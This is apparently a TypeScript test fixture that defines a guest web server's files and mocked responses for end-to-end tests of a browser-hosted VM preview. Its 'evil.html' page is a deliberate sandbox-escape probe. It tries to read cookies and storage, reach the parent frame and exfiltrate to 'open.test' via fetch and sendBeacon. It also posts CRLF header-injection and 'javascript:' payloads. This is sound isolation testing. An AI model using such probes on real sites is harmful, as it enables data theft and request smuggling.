// The site of a guest's web server, for busybox httpd in a guest (network.e2e.ts), and as answers to requests where there is none (preview.e2e.ts).

import type { GuestAnswer, GuestRequest } from '../src/machine/network-io.ts';

export const SITE: Readonly<Record<string, string>> = {
  'www/index.html': `<!doctype html><html><head><title>Guest's site</title><link rel="stylesheet" href="/style.css"><script src="code/app.js"></script></head>
<body><h1>Served by the guest</h1><img id="pic" src="pictures/box.svg" alt="a box">
<p><a href="deep/page.html">relative</a> <a href="/deep/page.html?x=1">from the root</a> <a href="cgi-bin/move">redirected</a> <a href="missing.html">missing</a> <a href="cgi-bin/file">a file</a> <a href="https://example.org/x">outside</a></p>
<form method="post" action="/cgi-bin/form"><input name="word" value="hello"><button>Send</button></form>
<p id="fetched"></p><p id="late"></p></body></html>`,
  'www/style.css': 'h1 { color: rgb(1, 2, 3); background: url("/pictures/box.svg"); }',
  'www/code/app.js': `addEventListener('load', async () => {
  const answer = await fetch('/cgi-bin/echo?a=b', { method: 'POST', body: 'posted' });
  document.getElementById('fetched').textContent = answer.status + ' ' + await answer.text();
  const image = new Image();
  image.onload = () => { document.getElementById('late').textContent = 'late image ' + image.naturalWidth; };
  image.src = 'pictures/box.svg';
});`,
  'www/pictures/box.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><rect width="40" height="30" fill="red"/></svg>',
  'www/deep/page.html': '<!doctype html><title>Deep</title><p id="here">deep page</p><a href="../index.html">back up</a>',
  'www/cgi-bin/form': '#!/bin/sh\nread -r body\nprintf "Content-Type: text/html\\r\\nSet-Cookie: seen=$body; Path=/\\r\\n\\r\\n<p id=got>$REQUEST_METHOD $body</p><a href=/cgi-bin/cookie>cookie</a>"\n',
  'www/cgi-bin/cookie': '#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\ncookie: $HTTP_COOKIE host: $HTTP_HOST"\n',
  'www/cgi-bin/echo': '#!/bin/sh\nbody=$(cat)\nprintf "Content-Type: text/plain\\r\\n\\r\\n$REQUEST_METHOD $QUERY_STRING $body"\n',
  'www/cgi-bin/move': '#!/bin/sh\nprintf "Status: 302 Found\\r\\nLocation: /deep/page.html\\r\\n\\r\\n"\n',
  'www/cgi-bin/file': '#!/bin/sh\nprintf "Content-Type: application/octet-stream\\r\\nContent-Disposition: attachment; filename=data.bin\\r\\n\\r\\n0123456789"\n',
  // Tries all that would harm the user, and says what became of it.
  'www/evil.html': `<!doctype html><title>evil</title><p id="report">busy</p><script>
(async () => {
  const report = {};
  const attempt = async (name, action) => { try { report[name] = String(await action()); } catch (error) { report[name] = 'refused'; } };
  await attempt('origin', () => origin);
  await attempt('storage', () => Object.getOwnPropertyDescriptor(Storage.prototype, 'getItem') && localStorage.getItem('secret'));
  await attempt('cookie', () => document.cookie);
  await attempt('database', () => new Promise((done, failed) => { const q = indexedDB.open('keyval-store'); q.onsuccess = () => done('opened'); q.onerror = failed; }));
  await attempt('parent', () => parent.document.title);
  await attempt('handle', () => parent.tabvisor.consoleText());
  await attempt('top', () => { top.location.href = 'about:blank'; return new Promise((done) => setTimeout(done, 300, 'navigated or ignored')); });
  await attempt('popup', () => { const w = Object.getPrototypeOf(window).open ?? null; return w ? 'open' : 'none'; });
  await attempt('app', async () => { const frame = document.createElement('iframe'); document.body.append(frame); return (await frame.contentWindow.fetch(location.href.replace(/preview.*/, 'index.html'))).status; });
  await attempt('elsewhere', async () => { const frame = document.createElement('iframe'); document.body.append(frame); return (await frame.contentWindow.fetch('http://open.test/leak')).status; });
  await attempt('beacon', () => { navigator.sendBeacon('http://open.test/beacon', 'x'); return 'sent or not'; });
  await attempt('worker', () => navigator.serviceWorker.register('/x.js'));
  await attempt('channel', () => { new BroadcastChannel('tabvisor hub lan').postMessage({ presence: 'evil', title: 'evil', mac: '', asks: true }); return 'in its own origin'; });
  document.getElementById('report').textContent = JSON.stringify(report);
  for (const bad of [{ asks: 1, method: 'GET\\r\\nX: y', target: '/' }, { asks: 2, method: 'GET', target: '/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' }, { asks: {}, method: 5 }, null, 'text', { leaves: 'javascript:alert(1)' }, { shows: 7 }]) parent.postMessage(bad, '*');
})();
</script>`,
  'www/away.html': '<!doctype html><title>away</title><script>location.replace(location.href.replace(/preview.*/, "index.html#-m 16"));</script>',
  'www/loop.html': '<!doctype html><title>loop</title><p>looping</p><script>setTimeout(() => { for (;;); }, 100);</script>',
};

const TYPES: Record<string, string> = { html: 'text/html', css: 'text/css', js: 'text/javascript', svg: 'image/svg+xml' };

/** What httpd and the programs in cgi-bin would answer. */
export function siteAnswer({ method, target, headers, body }: GuestRequest): GuestAnswer {
  const say = (status: number, type: string, text: string, ...more: [string, string][]): GuestAnswer =>
    ({ status, reason: '', headers: [['content-type', type], ...more], body: new TextEncoder().encode(text) });
  const header = (name: string) => headers.find(([key]) => key === name)?.[1] ?? '';
  const posted = new TextDecoder().decode(body);
  const [path, query = ''] = target.split('?');
  switch (path) {
    case '/cgi-bin/form': return say(200, 'text/html', `<p id=got>${method} ${posted}</p><a href=/cgi-bin/cookie>cookie</a>`, ['set-cookie', `seen=${posted}; Path=/`]);
    case '/cgi-bin/cookie': return say(200, 'text/plain', `cookie: ${header('cookie')} host: ${header('host')}`);
    case '/cgi-bin/echo': return say(200, 'text/plain', `${method} ${query} ${posted}`);
    case '/cgi-bin/move': return say(302, 'text/html', '', ['location', '/deep/page.html']);
    case '/cgi-bin/file': return say(200, 'application/octet-stream', '0123456789', ['content-disposition', 'attachment; filename=data.bin']);
  }
  const name = `www${path.endsWith('/') ? `${path}index.html` : path}`;
  const text = SITE[name];
  return text === undefined ? say(404, 'text/html', '<h1>404 Not Found</h1>') : say(200, TYPES[name.split('.').pop()!] ?? 'text/plain', text);
}
